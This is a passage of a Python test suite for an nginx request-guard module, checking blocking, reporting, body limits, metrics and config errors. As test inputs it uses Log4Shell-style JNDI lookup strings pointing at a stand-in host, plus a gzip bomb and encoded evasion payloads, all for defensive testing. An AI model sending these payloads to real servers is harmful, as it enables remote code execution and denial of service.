            location /page/up { hikeshi_page /blocked.html; proxy_pass http://127.0.0.1:UPSTREAM; }
            location /allow { hikeshi_allow 127.0.0.0/8 ::1; return 200 allowed; }
            location /allow/other { hikeshi_allow 192.0.2.0/24; return 200 x; }
            location /allow/none { hikeshi_allow none; return 200 x; }
            location /exclude { hikeshi_exclude header:x-template arg:t* form:note cookie:sid json:/a/0/note;
                                proxy_pass http://127.0.0.1:UPSTREAM; }
            location /exclude/none { hikeshi_exclude none; return 200 x; }
            location /least { hikeshi_least reaches; return 200 x; }
            location /least/attempt { hikeshi_least attempt; return 200 x; }
            location /static { hikeshi_read_body on; alias DIR/html; }
            location /discard { alias DIR/html; }
            location /quiet { hikeshi_events off; return 200 x; }
            location /two { hikeshi_events DIR/one.json; hikeshi_events DIR/two.json; return 200 x; }
            location /auth { auth_request /check; proxy_pass http://127.0.0.1:UPSTREAM; }
            location = /check { internal; proxy_pass http://127.0.0.1:UPSTREAM/status/204; proxy_pass_request_body off;
                                proxy_set_header Content-Length ""; }
            location /errors { error_page 403 /problem.html; proxy_pass http://127.0.0.1:UPSTREAM; }
            location /errors/app { error_page 403 /report/error; proxy_pass http://127.0.0.1:UPSTREAM; }
            location /errors/200 { error_page 403 =200 /problem.html; return 200 x; }
            location /errors/ssi { hikeshi_page /ssi.html; ssi on; return 200 x; }
            location = /ssi.html { ssi on; }
            location /mirror { mirror /copy; proxy_pass http://127.0.0.1:UPSTREAM; }
            location /after { post_action /copy; return 200 x; }
            location = /copy { internal; proxy_pass http://127.0.0.1:UPSTREAM/copy; }
            location /zone { hikeshi_zone shop; proxy_pass http://127.0.0.1:UPSTREAM; }
            location = /metrics { hikeshi off; hikeshi_metrics; }
            location /sub/ { hikeshi report; location /sub/in/ { return 200 in; } }
        }
        server { listen 127.0.0.1:PORT; server_name two.example; hikeshi off; location / { return 200 two; }
            location /on { hikeshi block; return 200 on; } }
        server { listen 127.0.0.1:PORT; server_name three.example; return 301 https://three.example; }
        server { listen 127.0.0.1:PORT; server_name four.example; rewrite ^/blocked /return; location / { return 200 four; } }
        """
    FILES = {"html/index.html": "index\n", "html/blocked.html": "<p>your page</p>\n", "html/problem.html": "<p>error page</p>\n",
             "html/ssi.html": "a<!--# include virtual=\"/report/part\" -->b<!--# include virtual=\"/problem.html\" -->c\n"}

    def bad(self, path, **how):
        how.setdefault("headers", []).append(("X-A", BAD))
        return self.ask(path, **how)

    def check(self, path, status, text=None, **how):
        answer = self.bad(path, **how)
        self.assertEqual(answer.status, status, path)
        if text is not None:
            self.assertEqual(answer.body.decode(), text, path)
        return answer

    def test_modes_merge(self):
        self.check("/", 403)
        self.check("/off", 200, "off")
        self.check("/report", 200)
        self.check("/report/block", 403)
        self.check("/sub/in/", 200, "in")
        self.check("/return", 403)
        self.check("/", 200, "two", host="two.example")
        self.check("/on", 403, host="two.example")
        self.assertEqual(self.ask("/return").body, b"returned")
        self.assertEqual(self.bad("/", host="three.example").status, 301)  # the server answers before any location
        self.check("/blocked", 403, host="four.example")

    def test_internal_redirects(self):
        for path, status, actions in (("/rewrite", 403, ["blocked"]), ("/softer", 403, ["blocked"]),
                                      ("/harder", 403, ["reported", "blocked"]), ("/named", 403, ["reported", "blocked"])):
            n = len(self.events())
            self.check(path, status)
            events = self.events()[n:]
            self.assertEqual([x["event"]["action"] for x in events], actions, path)
            self.assertEqual(len({x["event"]["id"] for x in events}), 1)
        self.assertEqual(self.ask("/named").body, b"named")

    def test_status_and_page(self):
        self.check("/status", 418)
        with Client(self.edge.port) as c:
            c.send(request("/closed", headers={"X-A": BAD}))
            self.assertTrue(c.ended())
        for data in (request("/closed/up", body="a=" + BAD), request("/closed/up", body="x" * 100000 + BAD)):
            with Client(self.edge.port) as c:
                c.send(data)
                self.assertTrue(c.ended())
        self.unseen()
        page = "<p>your page</p>\n"
        self.assertEqual(self.check("/page", 403, page).headers["content-type"], "text/html")
        self.check("/page/inner", 403, page)
        self.check("/page/up", 403, page)
        self.assertEqual(self.ask("/page/up", body="a=" + BAD).body.decode(), page)
        answer = self.check("/page/named", 403)
        self.assertEqual(answer.body.decode(), "named page " + self.events()[-1]["event"]["id"])
        self.assertIn(b"Request not accepted", self.check("/page/default", 403).body)
        self.assertEqual(self.check("/page/missing", 404).status, 404)
        self.assertEqual(self.check("/page", 403, method="HEAD").body, b"")

    def test_pages_are_not_taken_from_the_application(self):
        for path in ("/page/app", "/errors/app"):
            answer = self.check(path, 403)
            self.assertIn(b"Request not accepted", answer.body)
            self.assertEqual(self.ask(path, body="a=" + BAD, headers={"X-B": BAD}).status, 403)
        self.check("/errors/ssi", 403)
        self.assertEqual(self.upstream.take(), [])

    def test_error_page_works(self):
        self.check("/errors", 403, "<p>error page</p>\n")
        self.check("/errors/200", 200, "<p>error page</p>\n")
        answer = self.ask("/errors", body="a=" + BAD)
        self.assertEqual((answer.status, answer.body), (403, b"<p>error page</p>\n"))
        self.unseen()

    def test_the_page_speaks_the_clients_language(self):
        for accept, japanese in (("ja", True), ("ja-JP,ja;q=0.9,en;q=0.8", True), ("en-US,en;q=0.9,ja;q=0.5", False), ("", False),
                                 ("en;q=0.5,ja", True), ("fr,de", False), ("ja;q=0.1,en;q=0.2", False), ("*", False), ("j", False),
                                 (",,,ja;q=0.9,,", True), ("ja;q=0", False), ("JA", True), ("x" * 2000, False)):
            answer = self.bad("/", headers=[("Accept-Language", accept)])
            text = answer.body.decode()
            self.assertEqual('lang="ja"' in text, japanese, accept)
            self.assertIn(self.events()[-1]["event"]["id"], text)
            self.assertEqual(answer.headers["content-type"], "text/html; charset=utf-8")
        for accept in (("en;q=0.5", "ja"), ("ja", "en;q=0.5")):  # two headers are one list
            self.assertIn(b'lang="ja"', self.bad("/", headers=[("Accept-Language", x) for x in accept]).body)

    def test_allowed_clients(self):
        self.check("/allow", 200, "allowed")
        self.check("/allow/other", 403)
        self.check("/allow/none", 403)

    def test_excluded_fields(self):
        q = urllib.parse.quote(BAD)
        for how, status in (({"headers": {"X-Template": BAD}}, 200), ({"headers": {"X-Other": BAD}}, 403),
                            ({"path": "/exclude?template=" + q}, 200), ({"path": "/exclude?other=" + q}, 403),
                            (form("note=" + q), 200), (form("other=" + q), 403), ({"headers": {"Cookie": "sid=" + BAD}}, 200),
                            ({"headers": {"Cookie": "id=" + BAD}}, 403), (as_json(to_bytes(BAD)), 200),
                            ({"headers": {"X-Template": BAD, "X-Other": BAD}}, 403)):
            self.assertEqual(self.ask(**{"path": "/exclude", **how}).status, status, how)
        self.check("/exclude/none", 403)
        self.assertEqual(self.ask("/exclude/none", headers={"X-Template": BAD}).status, 403)

    def test_least(self):
        cut, inert = "${jndi:ldap://x.example/a", "${jndi-ldap://${lower:x}}${${jndi}"
        self.assertEqual(self.ask("/least", headers={"X-A": cut}).status, 200)
        self.assertEqual(self.ask("/return", headers={"X-A": cut}).status, 403)
        self.check("/least", 403)
        self.assertEqual(self.ask("/least/attempt", headers={"X-A": cut}).status, 403)
        self.assertEqual(self.ask("/least", headers={"X-A": inert}).status, 200)

    def test_bodies_nobody_reads(self):
        for body, status in (("a=" + BAD, 403), ("a=b", 405)):
            self.assertEqual(self.ask("/static/index.html", body=body).status, status)
            self.assertEqual(self.ask("/static/index.html", chunks=[to_bytes(body)]).status, status)
        self.assertEqual(self.ask("/static/index.html", method="GET", body="a=b").body, b"index\n")
        self.assertEqual(self.ask("/static/index.html", method="GET", body="x" * 100000).body, b"index\n")
        self.assertEqual(self.ask("/static/index.html", method="GET", body="x" * 100000 + BAD).status, 403)
        # where nobody reads it, it does no harm, and nothing waits for it
        self.assertEqual(self.ask("/discard/index.html", method="GET", body="a=" + BAD).body, b"index\n")

    def test_event_targets(self):
        n = len(self.events())
        self.check("/quiet", 403)
        self.check("/two", 403)
        self.assertEqual(len(self.events()), n)
        self.assertEqual(self.events("one.json"), self.events("two.json"))
        self.assertEqual(len(self.events("one.json")), 1)

    def test_subrequests_are_not_examined_again(self):
        n = len(self.events())
        self.assertEqual(self.ask("/auth").status, 200)
        self.assertEqual(self.ask("/mirror", body="a=b").status, 200)
        self.assertTrue(wait_for(lambda: len(self.upstream.seen) == 4))
        self.upstream.take()
        self.check("/auth", 403)
        self.check("/mirror", 403)
        self.check("/after", 403)
        self.assertEqual(self.ask("/mirror", body="a=" + BAD).status, 403)
        self.unseen()
        self.assertEqual(len(self.events()) - n, 4)
        self.assertEqual(self.ask("/after").status, 200)
        self.assertTrue(wait_for(lambda: self.upstream.seen))

    def test_variables(self):
        for path, how, want in (
                ("/return", {}, r"/return 200 verdict=none action=- id=- rule=- field=-"),
                ("/off", {}, r"/off 200 verdict=- action=- id=- rule=- field=-"),
                ("/return", {"headers": {"X-A": BAD}},
                 r"\S+ 403 verdict=reaches action=blocked id=[0-9A-Z]{26} rule=- field=header:x-a"),
                ("/report", {"body": "a=" + BAD, "headers": {"Content-Type": "application/x-www-form-urlencoded"}},
                 r"/report 200 verdict=reaches action=reported id=[0-9A-Z]{26} rule=- field=form:a"),
                ("/report", {"body": "a=b"}, r"/report 200 verdict=none action=- id=- rule=- field=-"),
                ("/named", {}, r"/named 200 verdict=none action=- id=- rule=- field=-")):
            # nginx writes the line after the answer: lines of requests made earlier may still come.
            def logged():
                return [line for line in self.edge.read("access.log").splitlines() if re.fullmatch(want, line)]
            n = len(logged())
            self.ask(path, **how)
            self.assertTrue(wait_for(lambda: len(logged()) > n), self.edge.read("access.log")[-2000:])
            self.assertEqual(len(logged()), n + 1)

    def test_metrics(self):
        def numbers():
            return [self.edge.metric("hikeshi_requests_examined_total", zone="shop"),
                    self.edge.metric("hikeshi_requests_total", zone="shop", action="blocked"),
                    self.edge.metric("hikeshi_findings_total", zone="shop", why="lookup"),
                    self.edge.metric("hikeshi_lookups_total", zone="shop", verdict="reaches"),
                    self.edge.metric("hikeshi_events_total", zone="shop")]
        self.assertEqual(numbers(), [0, 0, 0, 0, 0])
        self.ask("/zone")
        self.ask("/zone", body="a=b")
        self.check("/zone", 403)
        self.assertEqual(self.ask("/zone", body="a=" + BAD).status, 403)
        self.assertTrue(wait_for(lambda: numbers() == [4, 2, 2, 2, 2]), numbers())
        self.assertTrue(self.edge.reload())
        self.assertEqual(numbers(), [4, 2, 2, 2, 2])  # they go on
        self.assertEqual(self.ask("/metrics", method="POST", body="").status, 405)
        text = ask(self.edge.port, "/metrics").body.decode()
        for line in text.splitlines():
            self.assertRegex(line, r'^(# (HELP|TYPE) hikeshi_\w+ .+|hikeshi_\w+(\{\w+="[^"]*"(,\w+="[^"]*")*\})? \d+)$')


class Merges(Case):
    """What stands in http holds in every server and location until one says otherwise: for itself and all that is in it."""
    HTTP = """hikeshi block; hikeshi_status 410; hikeshi_zone http; hikeshi_events DIR/http.json; hikeshi_exclude arg:http;
        hikeshi_secret x-http; hikeshi_body_limit 100; hikeshi_beyond block; hikeshi_least reaches; hikeshi_allow none;
        hikeshi_read_body on; hikeshi_event_rate off; client_body_buffer_size 1k;
        server { listen 127.0.0.1:PORT; server_name bare.example; location / { root DIR/html; } location /in { root DIR/html; location /in/in { root DIR/html; } } }
        server { listen 127.0.0.1:PORT; server_name full.example; hikeshi_status 411; hikeshi_zone server; hikeshi_events DIR/server.json;
            hikeshi_exclude arg:server; hikeshi_secret x-server; hikeshi_body_limit 200; hikeshi_beyond pass; hikeshi_least if-closed;
            hikeshi_read_body off;
            location / { root DIR/html; }
            location /own { hikeshi_status 412; hikeshi_zone own; hikeshi_events DIR/own.json; hikeshi_exclude arg:own; hikeshi_secret x-own;
                hikeshi_body_limit 300; hikeshi_beyond block; hikeshi_least reaches; hikeshi_read_body on; root DIR/html;
                location /own/deep { root DIR/html; location /own/deep/er { root DIR/html; } }
                location /own/none { hikeshi_exclude none; hikeshi_secret none; hikeshi_events off; root DIR/html; } }
            location /if { hikeshi_status 413; if ($arg_x) { set $y 1; } proxy_pass http://127.0.0.1:UPSTREAM; }
            location /except { hikeshi_status 414; limit_except GET { proxy_pass http://127.0.0.1:UPSTREAM; } proxy_pass http://127.0.0.1:UPSTREAM; }
            location /named { hikeshi_status 415; try_files /none @named; }
            location @named { proxy_pass http://127.0.0.1:UPSTREAM; }
            location ~ ^/regex { hikeshi_status 416; location ~ deep$ { proxy_pass http://127.0.0.1:UPSTREAM; } }
            location = /exact { hikeshi_status 417; proxy_pass http://127.0.0.1:UPSTREAM; }
            location = /metrics { hikeshi off; hikeshi_metrics; } }"""
    # path -> (status, zone, name of what is its own)
    PLACES = {("bare.example", "/x"): (410, "http"), ("bare.example", "/in"): (410, "http"), ("bare.example", "/in/in"): (410, "http"),
              ("full.example", "/x"): (411, "server"), ("full.example", "/own"): (412, "own"), ("full.example", "/own/deep"): (412, "own"),
              ("full.example", "/own/deep/er"): (412, "own")}
    LIMITS, CUT = {"http": 100, "server": 200, "own": 300}, "${jndi:ldap://x.example/a"

    def at(self, place, path="", **how):
        return self.ask(place[1] + path, host=place[0], **how).status

    def test_each_directive(self):
        for place, (status, own) in self.PLACES.items():
            events = len(self.events(own + ".json"))
            examined = self.examined(own)
            blocked = self.examined(own, "hikeshi_requests_total", action="blocked")
            self.assertEqual(self.at(place, headers={"X-A": "hunter2 " + BAD}), status, place)
            self.assertEqual(self.at(place, headers={"X-" + own: "hunter2 " + BAD}), status, place)
            said = [x["hikeshi"].get("text") for x in self.events(own + ".json")[events:]]
            self.assertEqual(said, ["hunter2 " + BAD, None], place)
            for name in ("http", "server", "own"):
                q = "?%s=%s" % (name, urllib.parse.quote(BAD))
                self.assertEqual(self.at(place, q), 404 if name == own else status, (place, name))
            self.assertEqual(self.at(place, headers={"X-A": self.CUT}), 411 if own == "server" else 404, place)
            # a body that nobody reads: examined up to the limit where it is read, and what is beyond it refused
            reads = own != "server"
            for n, over in ((self.LIMITS[own], False), (self.LIMITS[own] + 1, True)):
                self.assertEqual(self.at(place, method="GET", body="x" * n), status if reads and over else 404, (place, n))
            many = 2 + 3 + 1 + 2
            hits = 2 + 2 + (own == "server") + reads
            self.assertTrue(wait_for(lambda: self.examined(own) == examined + many), place)
            self.assertEqual(self.examined(own, "hikeshi_requests_total", action="blocked"), blocked + hits, place)
            self.assertEqual(len(self.events(own + ".json")), events + hits, place)

    def examined(self, zone, name="hikeshi_requests_examined_total", **labels):
        text = ask(self.edge.port, "/metrics", host="full.example").body.decode()
        want = ",".join('%s="%s"' % x for x in {"zone": zone, **labels}.items())
        return int(re.search(r"(?m)^%s\{%s\} (\d+)$" % (name, want), text)[1])

    def test_none_and_off(self):
        place, n = ("full.example", "/own/none"), [len(self.events(x + ".json")) for x in ("http", "server", "own")]
        for name in ("http", "server", "own"):
            self.assertEqual(self.at(place, "?%s=%s" % (name, urllib.parse.quote(BAD))), 412)
        self.assertEqual([len(self.events(x + ".json")) for x in ("http", "server", "own")], n)

    def test_blocks_that_are_no_locations(self):
        for path, head, body in (("/if", 413, 413), ("/if?x=1", 413, 413), ("/except", 414, 414), ("/named", 415, 411),
                                 ("/regex/deep", 416, 416), ("/exact", 417, 417)):
            self.assertEqual(self.ask(path, host="full.example", headers={"X-A": BAD}).status, head, path)
            self.assertEqual(self.ask(path, host="full.example", method="POST", headers={"X-A": BAD}, body="").status, head, path)
            self.assertEqual(self.ask(path, host="full.example", body="a=" + BAD).status, body, path)
            self.assertEqual(self.ask(path, host="full.example", body="a=b").status, 200, path)


class Refused(unittest.TestCase):
    def refused(self, directives, why, files=()):
        edge = Nginx("%s server { listen 127.0.0.1:PORT; location / { } }" % directives, files=files, env=PRELOAD)
        self.addCleanup(edge.stop)
        accepted, said = edge.check()
        self.assertFalse(accepted, directives)
        self.assertRegex(said, why)
        self.assertRegex(said, r"in \S+nginx.conf:\d+\n", directives)  # says where

    def test_wrong_directives(self):
        for directives, why in (
                ("hikeshi on;", 'invalid value "on"'), ("hikeshi block; hikeshi off;", "is duplicate"),
                ("hikeshi_status 200;", "is 400 to 599"), ("hikeshi_page blocked.html;", "invalid page"),
                ("hikeshi_body_limit many;", "invalid value"), ("hikeshi_beyond maybe;", "invalid value"),
                ("hikeshi_least never;", "invalid value"), ("hikeshi_allow nobody;", 'invalid address "nobody"'),
                ("hikeshi_exclude nothing:q;", 'invalid field "nothing:q"'), ("hikeshi_exclude arg;", 'invalid field "arg"'),
                ("hikeshi_event_rate fast;", "is .off. or a number"), ("hikeshi_event_rate 0;", "is .off. or a number"),
                ("hikeshi_zone 'a\"b';", "has a name with"), ("hikeshi_zone %s;" % ("z" * 64), "too long"),
                ("hikeshi_events off; hikeshi_events DIR/e.json;", "is off already"),
                ("hikeshi_events syslog:nothing;", "unknown syslog parameter"),
                ("hikeshi_rules DIR/none;", "none"), ("hikeshi_rules DIR/a; hikeshi_rules DIR/a;", "is duplicate")):
            self.refused(directives, why, {"a": rules()})

    def test_twice(self):
        for name, value in (("hikeshi", "off"), ("hikeshi_status", "403"), ("hikeshi_page", "default"), ("hikeshi_body_limit", "1"),
                            ("hikeshi_beyond", "pass"), ("hikeshi_least", "reaches"), ("hikeshi_read_body", "off"), ("hikeshi_zone", "a"),
                            ("hikeshi_event_rate", "1")):
            self.refused("%s %s; %s %s;" % (name, value, name, value), '"%s" directive is duplicate' % name)
            self.refused("%s;" % name, 'invalid number of arguments in "%s"' % name)
            self.refused("%s %s more;" % (name, value), 'invalid number of arguments in "%s"' % name)
        for name in ("hikeshi_allow", "hikeshi_exclude", "hikeshi_secret"):
            value = "192.0.2.1" if name == "hikeshi_allow" else "arg:q"
            for more in ("none", value):
                self.refused("%s none; %s %s;" % (name, name, more), '"%s" directive is "none" already' % name)
            self.refused("%s %s; %s none;" % (name, value, name), '"%s" directive has values already' % name)
            self.refused("%s none %s;" % (name, value), '"%s" directive has "none" beside values' % name)
        self.refused("hikeshi_events '';", '"hikeshi_events" directive has an empty name')
        self.refused("server { listen 127.0.0.1:PORT; location /a { hikeshi_metrics; hikeshi_metrics; } }", "has a handler already")

    def test_out_of_place(self):
        for text, name in (("server { hikeshi_rules DIR/a; }", "hikeshi_rules"), ("server { hikeshi_event_rate 3; }", "hikeshi_event_rate"),
                           ("hikeshi_metrics;", "hikeshi_metrics"), ("server { hikeshi_metrics; }", "hikeshi_metrics"),
                           ("server { location /a { if ($arg_a) { hikeshi off; } } }", "hikeshi"),
                           ("server { if ($arg_a) { hikeshi off; } }", "hikeshi"),
                           ("server { location /a { limit_except GET { hikeshi_status 405; } } }", "hikeshi_status"),
                           ("upstream a { hikeshi off; }", "hikeshi")):
            self.refused(text, '"%s" directive is not allowed here' % name, {"a": rules()})

    def test_bad_rules(self):
        for text, why in (("", "rules"), ("hikeshi-rules 1\nversion 1 2021-12-14T09:00:00Z\nnonsense\n", "line 3: "),
                          (rules().replace("version 1", "version 2"), "line 3: "),
                          (rules("site a.example block")[:-1].rsplit("\n", 1)[0] + "\n", "checksum"),
                          (rules('signature S-1 "("'), "line 3: ")):
            self.refused("hikeshi_rules DIR/r;", why, {"r": text})


class Samples(unittest.TestCase):
    """What the documents tell people to copy."""
    ROOT = os.path.join(HERE, "../..")

    def text(self, name):
        with open(os.path.join(self.ROOT, name), encoding="utf-8") as f:
            return f.read()

    def test_configuration(self):
        self.assertIn("\nload_module modules/ngx_http_hikeshi_module.so;\n", self.text("packaging/nginx/50-mod-http-hikeshi.conf"))
        text = self.text("packaging/nginx/hikeshi.conf").replace("/var/log/nginx", "DIR").replace("127.0.0.1:9145", "127.0.0.1:PORT")
        commented = re.sub(r"(?m)^#(?=\w)", "", text).replace("/etc/nginx/hikeshi.rules", "DIR/rules")
        inner = re.search(r"(?ms)^#     server \{\n(.*?)^#     \}", text)[0].replace("#", "").replace("server {", "server { listen 127.0.0.1:PORT;")
        self.assertIn("unix:/dev/log", commented)
        for conf in (text, commented + re.sub(r";  +.*", ";", inner)):
            edge = Nginx(conf, files={"rules": rules()}, env=PRELOAD)
            self.addCleanup(edge.stop)
            accepted, said = edge.check()
            self.assertTrue(accepted, said)
        edge.start()
        self.assertEqual(ask(edge.port, "/metrics").status, 200)
        self.assertEqual(ask(edge.port, "/", host="shop.example.jp", headers={"X-A": BAD}).status, 404)  # its page is not there
        self.assertIn('"blocked"', edge.read("hikeshi.log"))

    def test_every_directive_and_variable_is_documented(self):
        source = self.text("src/guard/nginx/ngx_http_hikeshi_module.c")
        document = self.text("docs/guard.md")
        table = source[source.index("ngx_http_hikeshi_commands[]"):source.index("ngx_null_command")]
        directives = re.findall(r'ngx_string\("(\w+)"\)', table)
        self.assertGreater(len(directives), 12)
        for name in directives:
            self.assertRegex(document, r"\| `%s[ ;]" % name)
        for name in re.findall(r'ngx_string\("(hikeshi_\w+)"\)', self.text("src/guard/nginx/ngx_http_hikeshi_answer.c")):
            self.assertIn("`$%s`" % name, document)
        for name in re.findall(r'"(hikeshi_\w+)"', self.text("src/guard/nginx/ngx_http_hikeshi_metrics.c")):
            self.assertIn("`%s`" % name, document)

    def test_egress(self):
        table = re.search(r"(?s)```nft\n(.*?)```", self.text("docs/guard.md"))[1]
        nft = shutil.which("nft") or "/usr/sbin/nft"
        if not os.path.exists(nft) or subprocess.run([nft, "-c", "list", "ruleset"], capture_output=True).returncode:
            self.skipTest("nft cannot ask this kernel")
        more = "add element inet hikeshi callbacks4 { 203.0.113.9,198.51.100.0/24 }\n"
        r = subprocess.run([nft, "-c", "-f", "-"], input=table + more, text=True, capture_output=True)
        self.assertEqual((r.returncode, r.stderr), (0, ""))


class BodiesReadBefore(Case):
    """A location that does not examine reads the body, fails, and leads to one that does."""
    HTTP = """hikeshi block; hikeshi_events DIR/events.json; hikeshi_event_rate off; client_body_buffer_size 16k;
        server { listen 127.0.0.1:PORT; hikeshi_body_limit 200k; proxy_connect_timeout 2;
            location /direct { proxy_pass http://127.0.0.1:UPSTREAM; }
            location /off { hikeshi off; proxy_pass http://127.0.0.1:1; error_page 502 = @on; }
            location /closed { hikeshi off; proxy_pass http://127.0.0.1:1; error_page 502 = @closed; }
            location /twice { proxy_pass http://127.0.0.1:1; error_page 502 = @on; }
            location /report { hikeshi report; proxy_pass http://127.0.0.1:1; error_page 502 = @on; }
            location @on { proxy_pass http://127.0.0.1:UPSTREAM; }
            location @closed { hikeshi_beyond block; proxy_pass http://127.0.0.1:UPSTREAM; } }"""

    def test_they_are_examined(self):
        for filler in (b"", b"x" * 15000, b"x" * 100000):  # in memory; in a file
            for tail in (to_bytes(BAD), b"%24%7bjndi:ldap://x.example/a%7d"):
                self.assertEqual(self.ask("/off", body=filler + tail).status, 403, len(filler))
                self.assertEqual(self.events()[-1]["hikeshi"]["field"], "body")
        answer = self.ask("/off", **multipart(filename=b"=?utf-8?B?JA==?= =?utf-8?B?e2puZGk6eH0=?="))
        self.assertEqual(answer.status, 403)
        self.unseen()

    def test_clean_ones_go_on(self):
        for body in (b"a", b"x" * 15000, b"y" * 100000):
            self.upstream.take()
            self.assertEqual(self.ask("/off", body=body).status, 200)
            self.assertEqual([x["body"] for x in self.upstream.take()], [body])
        self.assertEqual(self.events(), [])

    def test_the_limit_holds(self):
        n = len(self.events())
        self.assertEqual(self.ask("/off", body=b"x" * 204800).status, 200)
        self.assertEqual(len(self.events()), n)
        self.assertEqual(self.ask("/off", body=b"x" * 204801).status, 200)
        self.assertEqual(self.events()[-1]["rule"]["name"], "body-limit")
        self.assertEqual(self.ask("/closed", body=b"x" * 204801).status, 403)

    def test_once_is_enough(self):
        n = len(self.events())
        self.assertEqual(self.ask("/twice", body=b"x" * 100000).status, 200)
        self.assertEqual(len(self.events()), n)
        self.assertEqual(self.ask("/report", body=b"x" * 50000 + to_bytes(BAD)).status, 403)
        self.assertEqual([x["event"]["action"] for x in self.events()[n:]], ["reported", "blocked"])


class Sites(Case):
    """The Host is the client's to choose; what nobody serves comes to the default server."""
    FILES = {"rules": rules("site soft.example off", "site hard.example block", "site one.example report", "site *.two.example report",
                            "except arg:free site=soft.example", 'patch P-1 site=one.example field=arg:q pattern="secret"')}
    HTTP = """hikeshi_rules DIR/rules; hikeshi_events DIR/events.json; hikeshi_event_rate off;
        server { listen 127.0.0.1:PORT; server_name .deep.example one.example *.two.example three.* ~^re[0-9]+\\.example$;
                 hikeshi block; location / { return 200 first; } }
        server { listen 127.0.0.1:PORT; server_name soft.example; hikeshi block; location / { return 200 soft; } }"""

    def status(self, host, path="/", bad=BAD):
        return self.ask(path, host=host, headers={"X-A": bad}).status

    def test_a_server_with_names(self):
        self.assertEqual(self.status("soft.example"), 200, self.events())  # its own server
        self.assertEqual(self.status("a.two.example"), 200)  # reported
        self.assertEqual(self.status("one.example"), 200)
        for host in ("deep.example", "a.deep.example", "three.org", "re7.example"):
            self.assertEqual(self.status(host), 403, host)  # its names, of which the rules say nothing
        # none of its names: its first one holds, and that is reported
        for host in ("nobody.example", "x.soft.example", "127.0.0.1"):
            n = len(self.events())
            self.assertEqual(self.status(host), 200, host)
            self.assertEqual(self.events()[n]["event"]["action"], "reported", host)
        n = len(self.events())
        self.assertEqual(self.status("nobody.example", "/?q=secret", bad="x"), 200)
        self.assertEqual(self.events()[n]["rule"]["name"], "P-1")


class NamelessSites(Case):
    FILES = Sites.FILES
    HTTP = """hikeshi_rules DIR/rules; server { listen 127.0.0.1:PORT; hikeshi block; location / { return 200 nameless; }
                 location /report { hikeshi report; return 200 x; } }"""
    status = Sites.status

    def test_the_host_makes_nothing_softer(self):
        self.assertEqual(self.status("soft.example"), 403)
        self.assertEqual(self.status("one.example"), 403)
        self.assertEqual(self.status("hard.example", "/report"), 403)
        self.assertEqual(self.status("nobody.example", "/report"), 200)


class Limits(Case):
    HTTP = """hikeshi block; hikeshi_events DIR/events.json; hikeshi_event_rate off; hikeshi_body_limit 4k;
        server { listen 127.0.0.1:PORT; location / { proxy_pass http://127.0.0.1:UPSTREAM; }
            location /closed { hikeshi_beyond block; proxy_pass http://127.0.0.1:UPSTREAM; }
            location /report { hikeshi report; hikeshi_beyond block; proxy_pass http://127.0.0.1:UPSTREAM; }
            location /all { hikeshi_body_limit 0; hikeshi_beyond block; proxy_pass http://127.0.0.1:UPSTREAM; } }"""

    def test_open_and_closed(self):
        for n in (4095, 4096, 4097, 9000, 100000):
            beyond = n > 4096
            for location, status, action in (("/", 200, "passed"), ("/closed", 403 if beyond else 200, "blocked"),
                                             ("/report", 200, "reported"), ("/all", 200, None)):
                before = len(self.events())
                self.assertEqual(self.ask(location, body=b"x" * n).status, status, (location, n))
                events = self.events()[before:]
                if not beyond or action is None:
                    self.assertEqual(events, [])
                    continue
                self.assertEqual(len(events), 1)
                self.assertEqual((events[0]["event"]["action"], events[0]["hikeshi"]["why"]), (action, "limit"))
                self.assertTrue(events[0]["rule"]["name"])

    def test_found_before_the_limit_and_behind_it(self):
        body = to_bytes(BAD)
        self.assertEqual(self.ask("/", body=body + b"x" * 9000).status, 403)
        self.assertEqual(self.ask("/", body=b"x" * 9000 + body).status, 200)
        self.assertEqual(self.ask("/all", body=b"x" * 900000 + body).status, 403)

    def test_codings_that_nobody_knows(self):
        for how in ({"headers": {"Content-Encoding": "br"}}, {"headers": {"Content-Encoding": "gzip, gzip"}},
                    {"headers": [("Content-Encoding", "gzip"), ("X-A", "b"), ("Content-Encoding", "gzip")]}):
            self.assertEqual(self.ask("/", body=b"abc", **how).status, 200)
            self.assertEqual(self.ask("/closed", body=b"abc", **how).status, 403)
            self.assertEqual(self.events()[-1]["hikeshi"]["why"], "limit")

    def test_codings_in_several_headers(self):
        body = gzip.compress(to_bytes(BAD))
        for headers in ([("Content-Encoding", "identity"), ("Content-Encoding", "gzip")], {"Content-Encoding": "GZIP"}):
            self.assertEqual(self.ask("/", headers=headers, body=body).status, 403)
            self.assertEqual(self.events()[-1]["hikeshi"]["why"], "lookup")

    def test_types_in_several_headers(self):
        types = [("Content-Type", "text/plain; charset=utf-8"), ("Content-Type", "text/plain; charset=ibm037")]
        for headers in (types, types[::-1], {"Content-Type": "text/plain; charset=utf-8; charset=ibm037"}):
            self.assertEqual(self.ask("/closed", headers=headers, body=BAD.encode("cp037")).status, 403)
            self.assertEqual(self.events()[-1]["rule"]["name"], "charset")

    def test_bombs(self):
        bomb = gzip.compress(b"0" * 50_000_000)
        headers = {"Content-Encoding": "gzip"}
        t0 = time.monotonic()
        for location, status in (("/", 200), ("/closed", 403), ("/all", 403)):
            self.assertEqual(self.ask(location, headers=headers, body=bomb).status, status, location)
        self.assertLess(time.monotonic() - t0, 30 if SANITIZED else 5)


# --- events

class Events(Case):
    HTTP = """hikeshi block; hikeshi_events DIR/events.json; hikeshi_events syslog:server=127.0.0.1:SYSLOG,tag=edge,nohostname;
        hikeshi_event_rate 5; hikeshi_secret X-Api-Key arg:token; set_real_ip_from 127.0.0.1; real_ip_header X-Real-IP;
        server { listen 127.0.0.1:PORT; hikeshi_rules_placeholder
            location / { proxy_pass http://127.0.0.1:UPSTREAM; } location = /metrics { hikeshi off; hikeshi_metrics; } }"""

    @classmethod
    def setUpClass(cls):
        cls.syslog = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        cls.syslog.bind(("127.0.0.1", 0))
        cls.syslog.settimeout(10)
        cls.HTTP = Events.HTTP.replace("SYSLOG", str(cls.syslog.getsockname()[1])).replace("hikeshi_rules_placeholder", "")
        super().setUpClass()

    @classmethod
    def tearDownClass(cls):
        super().tearDownClass()
        cls.syslog.close()

    def datagrams(self):
        self.syslog.setblocking(False)
        got = []
        while True:
            try:
                got.append(self.syslog.recv(65536))
            except BlockingIOError:
                self.syslog.settimeout(10)
                return got

    def bad(self, client, path="/", **headers):
        return self.ask(path, headers={"X-Real-IP": client, **(headers or {"X-A": BAD})})

    def test_one_event(self):
        self.datagrams()
        answer = self.ask("/a/b?c=d", host="shop.example.jp", headers={"X-Real-IP": "203.0.113.7", "User-Agent": "x " + BAD})
